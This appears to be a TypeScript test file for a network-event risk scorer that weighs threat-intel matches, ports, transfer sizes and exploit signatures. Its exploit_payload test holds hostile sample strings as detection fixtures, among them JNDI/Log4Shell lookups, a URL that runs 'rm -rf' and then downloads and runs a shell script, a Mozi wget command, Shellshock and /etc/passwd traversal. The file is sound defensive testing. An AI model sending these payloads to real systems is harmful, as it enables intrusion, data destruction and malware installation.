import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DEFAULT_RISK_WEIGHTS, EXPLOIT_PATTERNS, applyRisk, computeRisk, exploitPatterns, riskRulesFrom } from './index.js';

type Event = Record<string, unknown>;

/** The threat.enrichments entry applyIntel writes for a source.ip match. */
function ipMatch(list: string): Record<string, unknown> {
  return {
    indicator: { type: 'ipv4-addr', name: '45.149.3.0/24', provider: list, confidence: 'High' },
    matched: { atomic: '45.149.3.7', field: 'source.ip', type: 'indicator_match_rule' },
    feed: { name: list },
  };
}

function withIntel(event: Event, ...lists: string[]): Event {
  return { ...event, threat: { enrichments: lists.map(ipMatch) } };
}

test('telemetry-api formula, ECS fields: the original test vectors give the original scores', () => {
  const flow = { source: { ip: '10.0.0.1' }, destination: { ip: '10.0.0.2' } };
  assert.deepEqual(computeRisk(flow), { score: 10, reasons: [] });
  assert.deepEqual(computeRisk(withIntel(flow, 'ti')), { score: 70, reasons: ['intel_match:ti'] });
  assert.deepEqual(computeRisk({ destination: { port: 445 } }), { score: 20, reasons: ['port:445'] });
  assert.deepEqual(computeRisk({ source: { port: 5000 }, network: { bytes: 2_000_000 } }), { score: 20, reasons: ['large_transfer'] });
  const heavy = { source: { port: 5000 }, destination: { port: 3389 }, network: { bytes: 2_000_000 } };
  assert.deepEqual(computeRisk(withIntel(heavy, 'ti')), { score: 90, reasons: ['intel_match:ti', 'port:3389', 'large_transfer'] });
  assert.equal(computeRisk(withIntel({ ...heavy, destination: { port: 445 } }, 'ti')).score, 90);
  assert.equal(computeRisk(withIntel({ destination: { port: 445 }, source: { bytes: 2_000_000 } }, 'ti')).score, 80, 'no source port: no bytes bonus');
});

test('telemetry-api formula, its own flow and Zeek field names', () => {
  assert.equal(computeRisk({ src_ip: '10.0.0.1', dst_ip: '10.0.0.2' }).score, 10);
  assert.equal(computeRisk({ dst_port: 445 }).score, 20);
  assert.equal(computeRisk({ src_port: 5000, bytes: 2_000_000 }).score, 20);
  assert.equal(computeRisk(withIntel({ dst_port: 3389, src_port: 5000, bytes: 2_000_000 }, 'ti')).score, 90);
  assert.equal(computeRisk(withIntel({ id_resp_p: 445, orig_bytes: 2_000_000 }, 'ti')).score, 80);
  assert.equal(computeRisk({ 'id.resp_p': 3389, 'id.orig_p': 50000, orig_bytes: 10, resp_bytes: 1_000_000 }).score, 30, 'dotted Zeek keys; total = orig + resp');
  assert.equal(computeRisk({ id: { resp_p: 3389 } }).score, 20, 'nested Zeek id object');
});

test('large transfer: the threshold is exclusive, privileged source ports never count, the total falls back to both directions', () => {
  const at = (sourcePort: number, fields: Event): number => computeRisk({ source: { port: sourcePort, ...fields } }).score;
  assert.equal(at(1024, { bytes: 1_000_001 }), 20);
  assert.equal(at(1024, { bytes: 1_000_000 }), 10);
  assert.equal(at(1023, { bytes: 5_000_000 }), 10);
  assert.equal(computeRisk({ source: { port: 40000, bytes: 600_000 }, destination: { bytes: 600_000 } }).score, 20);
  assert.equal(computeRisk({ source: { port: 40000, bytes: 600_000 }, destination: { bytes: 600_000 }, network: { bytes: 900_000 } }).score, 10, 'network.bytes wins when present');
  assert.equal(computeRisk({ source: { port: 40000, bytes: 10 } }, { large_transfer_bytes: 5 }).score, 20);
});

test('intel_match: one weight however many lists; each list named once', () => {
  const event = withIntel({}, 'blocklist-de', 'firehol', 'blocklist-de');
  assert.deepEqual(computeRisk(event), { score: 70, reasons: ['intel_match:blocklist-de', 'intel_match:firehol'] });
  const noName = { threat: { enrichments: [{ matched: { field: 'destination.ip' } }] } };
  assert.deepEqual(computeRisk(noName).reasons, ['intel_match:unknown']);
  const providerOnly = { threat: { enrichments: { indicator: { provider: 'spamhaus' }, matched: { field: 'source.ip' } } } };
  assert.deepEqual(computeRisk(providerOnly).reasons, ['intel_match:spamhaus']);
});

test('bad_fingerprint: a threat-intel match on JA4, JA3, HASSH or JA4H', () => {
  const fingerprint = (field: string, list: string): Record<string, unknown> => ({ indicator: { type: 'software', provider: list }, matched: { field, atomic: 'x', type: 'indicator_match_rule' }, feed: { name: list } });
  const event = {
    threat: {
      enrichments: [
        fingerprint('tls.client.ja4', 'ja4db'),
        fingerprint('tls.client.hash.ja4', 'ja4db'),
        fingerprint('tls.client.ja3', 'abuse-sslbl'),
        fingerprint('ssh.client.hash.hassh', 'ssh-bots'),
        fingerprint('http.request.hash.ja4h', 'http-tools'),
      ],
    },
  };
  assert.deepEqual(computeRisk(event), {
    score: 30,
    reasons: ['fingerprint:ja4:ja4db', 'fingerprint:ja3:abuse-sslbl', 'fingerprint:hassh:ssh-bots', 'fingerprint:ja4h:http-tools'],
  });
  assert.deepEqual(computeRisk({ threat: { enrichments: [ipMatch('ti'), fingerprint('tls.client.ja4', 'ja4db')] } }), { score: 90, reasons: ['intel_match:ti', 'fingerprint:ja4:ja4db'] });
});

test('exploit_payload: each documented pattern, in URL, body, summary, User-Agent, Referer and headers', () => {
  const samples: Record<string, Event> = {
    traversal: { url: { original: '/static/..%2f..%2fwindows/win.ini' } },
    passwd: { http: { request: { body: { content: 'file=/etc/passwd' } } } },
    jndi: { user_agent: { original: '${jndi:ldap://198.51.100.7:1389/a}' } },
    shell: { url: { original: '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x.sh;sh+x.sh' } },
    cgi_bin: { url: { original: '/cgi-bin/luci/;stok=/locale' } },
    phpunit: { url: { original: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' } },
    dotenv: { url: { original: '/.env' } },
    dotgit: { url: { original: '/.git/config' } },
    shellshock: { http: { request: { headers: { Cookie: '() { :; }; /bin/bash -c id' } } } },
    php_code: { url: { original: '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array' } },
    spring4shell: { http: { request: { body: { content: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' } } } },
    mozi: { event: { summary: 'GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.51.100.7:8088/Mozi.m+-O+/tmp/netgear' } },
  };
  assert.deepEqual(Object.keys(samples).sort(), EXPLOIT_PATTERNS.map((p) => p.id).sort(), 'every pattern has a sample');
  for (const [id, event] of Object.entries(samples)) {
    assert.ok(exploitPatterns(event).includes(id), `${id}: ${JSON.stringify(event)}`);
    const result = computeRisk(event);
    assert.equal(result.score, 30, id);
    assert.ok(result.reasons.includes(`payload:${id}`), id);
  }
  assert.deepEqual(computeRisk({ http: { request: { referrer: 'http://x/${jndi:dns://y}' } } }).reasons, ['payload:jndi']);
  assert.deepEqual(computeRisk({ http: { request: { headers: { 'X-Api-Version': ['ok', '${jndi:ldap://z}'] } } } }).reasons, ['payload:jndi']);
  assert.deepEqual(computeRisk({ url: { full: 'http://h/../../etc/passwd' } }).reasons, ['payload:traversal', 'payload:passwd'], 'several patterns, one weight, table order');
  assert.equal(computeRisk({ url: { full: 'http://h/../../etc/passwd' } }).score, 30);
});

test('ordinary requests are not exploit attempts', () => {
  for (const url of ['/', '/index.html', '/robots.txt', '/favicon.ico', '/wp-login.php', '/api/v1/items?id=3&sort=desc', '/environment', '/static/app.js?v=1.2.3']) {
    assert.deepEqual(computeRisk({ url: { original: url }, user_agent: { original: 'Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0' } }).reasons, [], url);
  }
});

test('scanner_asn and sensitive ports are operator lists', () => {
  const rules = riskRulesFrom({ scanner_asns: [396982, 14061], sensitive_ports: [22, 23, 3389, 445, 5900, 6379, 9200] });
  assert.deepEqual(computeRisk({ source: { as: { number: 396982 } } }, rules), { score: 15, reasons: ['scanner_asn:396982'] });
  assert.deepEqual(computeRisk({ source: { as: { number: 15169 } } }, rules), { score: 10, reasons: [] });
  assert.deepEqual(computeRisk({ destination: { port: 6379 } }, rules), { score: 20, reasons: ['port:6379'] });
  assert.deepEqual(computeRisk({ destination: { port: 22 } }), { score: 10, reasons: [] }, 'the default list is the telemetry-api one');
  assert.deepEqual(computeRisk({ source: { as: { number: 396982 } } }), { score: 10, reasons: [] }, 'no scanner ASNs by default');
});

test('custom weights, TOML-shaped; a zero weight switches a rule and its reason off', () => {
  const toml = { weights: { base: 0, intel_match: 30, sensitive_port: 0 }, sensitive_ports: [445] };
  assert.deepEqual(computeRisk(withIntel({ destination: { port: 445 } }, 'ti'), toml), { score: 30, reasons: ['intel_match:ti'] });
  const negative = riskRulesFrom({ weights: { base: 50, scanner_asn: -40 }, scanner_asns: [64500] });
  assert.deepEqual(computeRisk({ source: { as: { number: 64500 } } }, negative), { score: 10, reasons: ['scanner_asn:64500'] });
  assert.deepEqual(riskRulesFrom().weights, DEFAULT_RISK_WEIGHTS);
});

test('the score is clamped to 0..100', () => {
  const all = {
    ...withIntel({ source: { port: 40000, bytes: 5_000_000, as: { number: 64500 } }, destination: { port: 3389 }, url: { original: '/cgi-bin/x' } }, 'ti'),
  };
  const big = riskRulesFrom({ weights: { base: 100, intel_match: 100, sensitive_port: 100, large_transfer: 100, exploit_payload: 100, scanner_asn: 100 }, scanner_asns: [64500] });
  const result = computeRisk(all, big);
  assert.equal(result.score, 100);
  assert.deepEqual(result.reasons, ['intel_match:ti', 'port:3389', 'large_transfer', 'payload:cgi_bin', 'scanner_asn:64500']);
  assert.equal(computeRisk(all).score, 100, 'defaults: 10 + 60 + 10 + 10 + 20 = 110, clamped');
  assert.equal(computeRisk({}, { weights: { base: -100 } }).score, 0);
});

test('invalid rules are errors naming the problem', () => {
  assert.throws(() => riskRulesFrom({ weights: { intel: 5 } }), /risk weight "intel": no such rule \(rules: base, intel_match/);
  assert.throws(() => riskRulesFrom({ weights: { base: Number.NaN } }), /risk weight base: expected a number/);
  assert.throws(() => riskRulesFrom({ large_transfer_bytes: -1 }), /large_transfer_bytes/);
});

test('applyRisk writes event.risk_score and event.risk_reasons, keeping the rest of `event`', () => {
  const event: Event = { event: { kind: 'event', risk_score: 99 }, destination: { port: 445 } };
  const result = applyRisk(event, riskRulesFrom());
  assert.deepEqual(result, { score: 20, reasons: ['port:445'] });
  assert.deepEqual(event.event, { kind: 'event', risk_score: 20, risk_reasons: ['port:445'] });
  const bare: Event = {};
  applyRisk(bare);
  assert.deepEqual(bare, { event: { risk_score: 10, risk_reasons: [] } });
  const odd: Event = { event: 'not an object', destination: { port: 3389 } };
  assert.equal(applyRisk(odd).score, 20);
  assert.equal(odd.event, 'not an object');
});

test('odd event shapes never throw and score only what is well-formed', () => {
  const odd: unknown[] = [
    {},
    { destination: null },
    { destination: { port: '445' } },
    { destination: { port: '445x' } },
    { destination: { port: Number.NaN } },
    { destination: { port: Infinity } },
    { destination: [445] },
    { source: { port: '5000', bytes: '2000000' } },
    { source: { as: { number: '396982' } } },
    { source: { as: 'AS396982' } },
    { threat: 'x' },
    { threat: { enrichments: 'x' } },
    { threat: { enrichments: [null, 1, 'x', [], { matched: 5, feed: 'y', indicator: [] }] } },
    { threat: { enrichments: [{ matched: { field: 7 }, feed: { name: 9 } }] } },
    { url: { original: 42 } },
    { url: 'x' },
    { http: { request: { headers: null } } },
    { http: { request: { headers: { a: 1, b: null, c: { d: 'e' }, f: [1, null, '${jndi:x'] } } } },
    { user_agent: { original: ['${jndi:'] } },
    { event: { summary: { text: '/etc/passwd' } } },
    JSON.parse('{"__proto__": {"destination": {"port": 445}}, "constructor": {"prototype": 1}}'),
  ];
  const scores = odd.map((event) => computeRisk(event as Event));
  for (const result of scores) {
    assert.ok(result.score >= 0 && result.score <= 100);
    assert.ok(result.reasons.every((reason) => typeof reason === 'string'));
  }
  assert.deepEqual(
    scores.map((s) => s.reasons.join(',')),
    ['', '', 'port:445', '', '', '', '', 'large_transfer', '', '', '', '', 'intel_match:unknown', 'intel_match:unknown', '', '', '', 'payload:jndi', '', '', ''],
  );
  for (const notAnEvent of [null, undefined, 42, 'text', [], [1, 2]]) {
    assert.deepEqual(computeRisk(notAnEvent as unknown as Event), { score: 10, reasons: [] });
    assert.doesNotThrow(() => applyRisk(notAnEvent as unknown as Event));
  }
});

test('adversarial payloads: long near-misses are scanned in linear time', { timeout: 20_000 }, () => {
  const mib = 1 << 20;
  const payloads = [
    '.'.repeat(mib),
    '${'.repeat(mib / 2),
    '$'.repeat(mib) + '{jndi:',
    '%2e%2e'.repeat(mib / 6),
    ';wge'.repeat(mib / 4),
    '/etc/passw'.repeat(mib / 10),
    '('.repeat(mib) + ') {',
    '\u00e9'.repeat(mib),
    '\ud83d\ude00'.repeat(mib / 2),
  ];
  for (const payload of payloads) {
    const event = {
      url: { original: payload },
      http: { request: { body: { content: payload }, headers: Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`h${i}`, payload.slice(0, 1000)])) } },
      event: { summary: payload },
      user_agent: { original: payload },
    };
    const result = computeRisk(event);
    assert.ok(result.score >= 10 && result.score <= 100);
  }
  const hidden = { event: { summary: `${'A'.repeat(300 * 1024)}\${jndi:ldap://x}` } };
  assert.deepEqual(computeRisk(hidden).reasons, [], 'beyond the scanned prefix of a field nothing is looked at');
  const manyEnrichments = { threat: { enrichments: Array.from({ length: 100_000 }, (_, i) => ipMatch(`list-${i}`)) } };
  const result = computeRisk(manyEnrichments);
  assert.equal(result.score, 70);
  assert.equal(result.reasons.length, 16, 'named lists are capped');
});
